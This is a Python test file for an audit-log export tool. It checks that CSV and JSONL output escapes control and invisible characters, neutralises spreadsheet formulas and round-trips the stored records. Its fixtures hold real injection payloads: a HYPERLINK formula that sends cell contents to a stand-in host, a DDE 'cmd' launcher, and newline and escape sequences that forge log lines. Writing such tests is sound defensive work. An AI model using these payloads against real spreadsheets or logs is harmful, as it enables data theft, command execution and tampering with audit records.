"""``audit export``: JSONL and CSV with control characters escaped (one record, one line),
spreadsheet formulas neutralised, and a lossless round trip back to the stored records."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from audit.chain import FIELDS, format_time
from audit.models import JournalRecord
from audit.query import render_line, write_csv, write_jsonl
from sekisho.services import Services
from tests.audit.conftest import append, append_event, event, run_cli
from tests.conftest import FakeClock

HOSTILE = {
    "object_dn": "CN=evil\n12 ca.revoke forged\r\x1b[2J,O=Corp",
    "actor_account": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "device_id": "+cmd|' /C calc'!A0",
    "client_ip": "-2+3",
    "request_id": "@SUM(A1:A9)",
    "device_mac": "'quoted\ttab\x7fdel\x85nel",
    "detail": {"note": "line\u2028sep\u2029para \\ back", "bell": "\x07", "esc": "\x1b"},
}
NUL_DN = "CN=nul\x00byte,O=Corp"


@pytest.fixture
def stored(journal_services: Services, clock: FakeClock) -> list[JournalRecord]:
    append(journal_services, clock, 5)
    clock.advance(seconds=1)
    append_event(journal_services, clock, event(20, **HOSTILE))
    clock.advance(seconds=1)
    append_event(journal_services, clock, event(21, object_dn=NUL_DN))
    append(journal_services, clock, 2, start=30)
    with journal_services.db.scope() as session:
        return list(session.scalars(select(JournalRecord).order_by(JournalRecord.seq)))


def export(
    capsys: pytest.CaptureFixture[str], data_dir: Path, tmp_path: Path, fmt: str, *args: str
) -> str:
    out_file = tmp_path / f"export.{fmt}"
    code, _out, err = run_cli(
        capsys, data_dir, "audit", "export", "--format", fmt, "-o", str(out_file), *args
    )
    assert code == 0, err
    data = out_file.read_bytes().decode("utf-8")
    assert not out_file.with_name(out_file.name + ".part").exists()
    return data


def assert_one_line_per_record(text: str, lines: int) -> None:
    assert text.endswith("\n")
    assert text.count("\n") == lines
    bad = [ch for ch in text if (ord(ch) < 0x20 and ch != "\n") or 0x7F <= ord(ch) < 0xA0]
    assert bad == []
    assert "\u2028" not in text and "\u2029" not in text


def test_stored_record_keeps_hostile_text_verbatim(stored: list[JournalRecord]) -> None:
    hostile = stored[-4]
    assert hostile.object_dn == HOSTILE["object_dn"]
    assert hostile.actor_account == HOSTILE["actor_account"]
    # PostgreSQL text cannot hold NUL; the journal stores U+FFFD on every backend instead of
    # failing the operation it records.
    assert stored[-3].object_dn == NUL_DN.replace("\x00", "\ufffd")


def test_jsonl_export_is_one_line_per_record_and_round_trips(
    stored: list[JournalRecord],
    cli_data_dir: Path,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    text = export(capsys, cli_data_dir, tmp_path, "jsonl")
    assert_one_line_per_record(text, len(stored))
    assert "\\n12 ca.revoke forged" in text.splitlines()[len(stored) - 4]
    docs = [json.loads(line) for line in text.splitlines()]
    assert len(docs) == len(stored)
    for doc, row in zip(docs, stored, strict=True):
        expected = {name: getattr(row, name) for name in FIELDS}
        expected["time"] = format_time(row.time)
        expected["detail"] = json.loads(row.detail)
        expected["hash"] = row.hash
        assert doc == expected


def unescape(cell: str) -> str:
    """Undo the exporter's escaping: the formula guard's leading quote, then ``\\xNN``,
    ``\\uNNNN``, ``\\UNNNNNNNN`` and ``\\\\``."""
    if cell[:1] == "'":
        cell = cell[1:]

    def one(match: re.Match[str]) -> str:
        token = match.group(1)
        return "\\" if token == "\\" else chr(int(token[1:], 16))

    return re.sub(r"\\(\\|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})", one, cell)


def test_csv_export_is_one_line_per_record_neutralises_formulas_and_round_trips(
    stored: list[JournalRecord],
    cli_data_dir: Path,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    text = export(capsys, cli_data_dir, tmp_path, "csv")
    assert_one_line_per_record(text, len(stored) + 1)
    table = list(csv.reader(io.StringIO(text)))
    header, body = table[0], table[1:]
    assert header == [*FIELDS, "hash"]
    assert len(body) == len(stored)

    cells = dict(zip(header, body[len(stored) - 4], strict=True))
    for column in ("actor_account", "device_id", "client_ip", "request_id"):
        assert cells[column][0] == "'", column  # a spreadsheet shows it as text
    for row in body:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")

    for cells_list, record in zip(body, stored, strict=True):
        got = {name: unescape(cell) for name, cell in zip(header, cells_list, strict=True)}
        expected = {
            name: "" if getattr(record, name) is None else str(getattr(record, name))
            for name in FIELDS
        }
        expected["time"] = format_time(record.time)
        expected["hash"] = record.hash
        assert got == expected
        assert json.loads(got["detail"]) == json.loads(record.detail)


# Cells a spreadsheet runs as formulas too: fullwidth = + - @ (U+FF1D, U+FF0B, U+FF0D,
# U+FF20), and any of them after leading spaces (ASCII or ideographic).
FORMULAS = [
    '\uff1dHYPERLINK("http://x.example/","click")',
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(A1:A9)",
    " =1+1",
    "   @SUM(A1:A9)",
    " -2+3",
    " +cmd",
    "\u3000=1+1",
    " \u3000\uff1d1+1",
]
NOT_FORMULAS = [" CN=x,O=Corp", "\u3000\u5c71\u7530", "CN=\uff1d"]


def test_csv_export_neutralises_fullwidth_and_space_led_formulas(
    journal_services: Services,
    clock: FakeClock,
    cli_data_dir: Path,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    values = [*FORMULAS, *NOT_FORMULAS]
    for n, value in enumerate(values):
        append_event(journal_services, clock, event(n, object_dn=value, actor_account=value))
    table = list(csv.reader(io.StringIO(export(capsys, cli_data_dir, tmp_path, "csv"))))
    header, body = table[0], table[-len(values) :]
    for value, row in zip(values, body, strict=True):
        cells = dict(zip(header, row, strict=True))
        for column in ("object_dn", "actor_account"):
            quoted = value in FORMULAS
            assert cells[column] == ("'" if quoted else "") + value, (column, value)
            assert unescape(cells[column]) == value


def test_export_applies_the_search_filters(
    stored: list[JournalRecord],
    cli_data_dir: Path,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    text = export(capsys, cli_data_dir, tmp_path, "jsonl", "--dn", "nul\ufffdbyte")
    assert [json.loads(line)["seq"] for line in text.splitlines()] == [stored[-3].seq]
    capsys.readouterr()
    code, out, err = run_cli(capsys, cli_data_dir, "audit", "export", "--category", "auth")
    assert code == 0
    docs = [json.loads(line) for line in out.splitlines()]
    assert docs and {d["category"] for d in docs} == {"auth"}
    assert f"exported {len(docs)} records" in err


def test_writers_escape_nul_and_every_control_character() -> None:
    """The exporters themselves, on a record that never went through the store (so NUL and
    every C0/C1 control reach them as they are)."""
    controls = "".join(chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))) + "\u2028\u2029"
    row = JournalRecord(
        seq=1,
        time=dt.datetime(2026, 1, 2, 3, 4, 5, 6, tzinfo=dt.UTC),
        category="auth",
        action="auth.login",
        outcome="denied",
        actor_account="-" + controls,
        object_dn="CN=a\x00b\nc\\d",
        detail='{"x":"\\u0000"}',
        hash="ab" * 32,
    )
    out = io.StringIO()
    assert write_jsonl(iter([row]), out) == 1
    line = out.getvalue()
    assert_one_line_per_record(line, 1)
    assert "\\u0000" in line
    doc = json.loads(line)
    assert doc["actor_account"] == "-" + controls and doc["object_dn"] == "CN=a\x00b\nc\\d"
    assert doc["detail"] == {"x": "\x00"}

    out = io.StringIO()
    assert write_csv(iter([row]), out) == 1
    text = out.getvalue()
    assert_one_line_per_record(text, 2)
    assert "\\x00" in text and "\\x1b" in text and "\\x85" in text and "\\u2028" in text
    cells = dict(zip(*csv.reader(io.StringIO(text)), strict=True))
    assert cells["actor_account"].startswith("'-")
    assert unescape(cells["actor_account"]) == "-" + controls
    assert unescape(cells["object_dn"]) == "CN=a\x00b\nc\\d"
    assert unescape(cells["time"]) == "2026-01-02T03:04:05.000006Z"


@pytest.mark.parametrize(
    "hidden, escapes",
    [
        # Bidi marks, embeddings, overrides and isolates, zero-width characters, the byte
        # order mark, the line separator.
        (
            "\u00ad\u061c\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2060\u2066\u2067\u2068"
            "\u2069\ufeff\u2028",
            ("\\u061c", "\\u2066", "\\ufeff", "\\u00ad", "\\u2060"),
        ),
        # Tag characters, invisible operators, the Mongolian vowel separator, the combining
        # grapheme joiner, variation selectors, Hangul fillers, no-break and other spaces,
        # private use: they passed the hand-picked list the escaping used to be.
        (
            "\U000e0001\U000e0058\u2064\u180e\u034f\ufe0f\u3164\u00a0\u2002\u202f\ue000\U000e0100",
            ("\\U000e0001", "\\u2064", "\\u00a0"),
        ),
    ],
    ids=["bidi-zero-width", "tags-spaces-selectors"],
)
def test_characters_a_viewer_hides_or_shows_as_a_plain_space_are_escaped(
    hidden: str, escapes: tuple[str, ...]
) -> None:
    """Two DNs that differ only in such characters would read the same in a viewer: they
    are escaped like the controls. Letters of any script, and the ideographic space of a
    Japanese name, are shown as they are."""
    seen = "山田\u3000太郎 Ünïcødé ك"
    dn = f"CN=admin{hidden},O={seen}"
    row = JournalRecord(
        seq=1,
        time=dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC),
        category="auth",
        action="auth.login",
        outcome="denied",
        object_dn=dn,
        detail="{}",
        hash="ab" * 32,
    )
    out = io.StringIO()
    write_csv(iter([row]), out)
    text = out.getvalue()
    for shown in (text, render_line(row)):
        assert not set(shown) & set(hidden), shown
        assert all(escape in shown for escape in escapes), shown
        assert seen in shown
    cells = dict(zip(*csv.reader(io.StringIO(text)), strict=True))
    assert unescape(cells["object_dn"]) == dn


@pytest.mark.parametrize(
    "args",
    [
        ("audit", "export", "-o"),
        ("audit", "checkpoints", "export", "-o"),
        ("audit", "public-key", "-o"),
    ],
)
def test_output_files_that_cannot_be_written_are_bad_input(
    capsys: pytest.CaptureFixture[str], cli_data_dir: Path, tmp_path: Path, args: tuple[str, ...]
) -> None:
    """No such directory: exit 65 and the path named, no traceback, nothing left behind."""
    target = tmp_path / "missing" / "out.txt"
    code, _out, err = run_cli(capsys, cli_data_dir, *args, str(target))
    assert code == 65, err
    assert "cannot write" in err and str(target) in err and "Traceback" not in err
    assert not target.parent.exists()
    # A file whose directory exists is written whole (no .part left).
    good = tmp_path / "out.txt"
    code, _out, err = run_cli(capsys, cli_data_dir, *args, str(good))
    assert code == 0, err
    assert good.stat().st_size > 0 and not list(tmp_path.glob("*.part"))
